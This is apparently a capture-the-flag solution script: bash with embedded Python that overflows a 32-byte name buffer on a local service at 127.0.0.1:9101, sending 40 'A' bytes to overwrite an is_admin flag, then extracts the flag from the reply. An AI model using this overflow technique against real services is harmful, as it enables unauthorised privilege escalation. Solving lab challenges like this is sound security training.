#!/bin/bash
# name[32] is read with a 64-byte limit: 36 non-zero bytes also fill is_admin.
set -e
python3 - <<'PY'
import re, socket
s = socket.create_connection(("127.0.0.1", 9101))
s.sendall(b"A" * 40 + b"\n")
out = b""
while True:
    d = s.recv(4096)
    if not d: break
    out += d
print(re.search(rb"flag\{[^}]+\}", out).group(0).decode())
PY
